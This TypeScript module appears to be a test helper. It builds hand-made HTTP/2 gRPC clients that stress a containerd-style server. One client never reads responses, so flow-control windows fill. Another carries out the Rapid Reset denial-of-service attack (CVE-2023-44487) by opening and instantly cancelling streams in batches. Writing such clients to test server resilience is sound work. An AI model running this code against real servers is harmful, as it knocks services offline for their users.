// Clients that no library would be: HTTP/2 by hand.
import { once } from 'node:events';
import { connect as connectSession, constants, type ClientHttp2Session } from 'node:http2';
import { connect as connectSocket } from 'node:net';

/** One that asks and never reads an answer, so that its windows fill up. */
export interface MuteReader {
  /** Begins a call with one message. */
  ask(path: string, message?: Buffer): void;
  end(): void;
}

export function createMuteReader(address: string, namespace: string): MuteReader {
  const session = sessionOf(address);
  return {
    ask(path, message = Buffer.alloc(0)) {
      const stream = begin(session, path, namespace);
      const frame = Buffer.alloc(5 + message.length);
      frame.writeUInt32BE(message.length, 1);
      message.copy(frame, 5);
      stream.end(frame);
    },
    end: () => session.destroy(),
  };
}

/** One that takes back what it has just asked for (CVE-2023-44487). */
export interface Resetter {
  /** Begins so many calls and resets each at once; resolves with how many were sent before the connection ended. */
  reset(path: string, times: number): Promise<number>;
  readonly ended: boolean;
  end(): void;
}

/** Calls between two looks at whether there still is a connection. */
const BATCH = 100;

export function createResetter(address: string, namespace: string): Resetter {
  const session = sessionOf(address);
  const over = (): boolean => session.closed || session.destroyed;
  return {
    async reset(path, times) {
      if (session.connecting) await once(session, 'connect');
      let sent = 0;
      while (sent < times && !over()) {
        const streams = Array.from({ length: BATCH }, () => begin(session, path, namespace));
        // What is taken back before it was sent is not sent at all.
        await new Promise(setImmediate);
        for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
        sent += BATCH;
        await new Promise(setImmediate);
      }
      return sent;
    },
    get ended() {
      return over();
    },
    end: () => session.destroy(),
  };
}

function sessionOf(address: string): ClientHttp2Session {
  const session = connectSession('http://localhost', { createConnection: () => connectSocket(address) });
  session.on('error', () => undefined);
  return session;
}

function begin(session: ClientHttp2Session, path: string, namespace: string) {
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    'containerd-namespace': namespace,
  });
  stream.on('error', () => undefined);
  return stream;
}
